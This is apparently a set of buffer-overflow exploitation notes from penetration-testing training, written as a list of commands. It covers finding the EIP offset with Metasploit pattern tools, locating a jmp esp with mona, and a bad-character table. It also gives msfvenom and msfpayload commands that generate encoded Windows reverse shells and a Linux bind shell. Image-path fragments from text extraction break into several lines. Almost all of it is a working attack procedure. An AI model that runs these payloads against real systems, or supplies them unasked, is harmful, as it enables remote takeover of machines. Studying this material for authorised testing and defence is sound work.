Buffer Overflow Commands

Create unique Offset for determinging EIP and ESP (3000 is the length of the unique pattern):

  •  /usr/share/metasploit-framework/tools/exploit/pattern_create.rb -l 3000 > uniq.txt

Determine Offset (34744233 is the unique pattern found in EIP during crash):

  • /usr/share/metasploit-framework/tools/exploit/pattern_offset.rb -l 3000 -q 34744233

Inspect program for DEP and ASLR in Immunity Debugger:• !mona modules

FindOp code using shellme (Github Source):

  • python shellme.py -i ‘jmp esp’
  • Returns: “\xff\xe4”

Search for jmp esp in dll that was found by mona:

  • !monafind -s “\xff\xe4” -m offsec_pwk_dll.dll

Determine Bad Chars:
Hex       Dec        Description
—            —           ———
0x00       0            Null byte, terminates a C string
0x0A     10           Line feed, may terminate a command line
0x0D     13           Carriage return, may terminate a command line
0x20      32           Space, may terminate a command line argument

msfvenom WINDOWS generate payload (preferred over msfpayload):

  • msfvenom -p windows/shell_reverse_tcp LHOST= LPORT=443 -f c -a x86 –platform windows -b “\x00\x0a\x0d\x20” -e x86/shikata_ga_nai

msfpayloadWINDOWS reverse tcp shell:

  • msfpayload windows/shell_reverse_tcp LHOST LPORT 443 R | msfencode -b ‘\x00\x0a\x0d’ -t c

If its a threaded application, allow WINDOWS persistence with (EXITFUNC=thread):

  • msfvenom -p windows/shell_reverse_tcp LHOST= LPORT=443 EXITFUNC=thread -f c -a x86 –platform windows -b “\x00\x0a\x0d” -e x86/shikata_ga_nai

msfvenom LINUX generate bind shell payload:• msfvenom -p linux/x86/shell_bind_tcp LPORT=1337 -f c -b“\x00\x0a\x0d\x20” –platformlinux -a x86 -e x86/shikata_ga_nai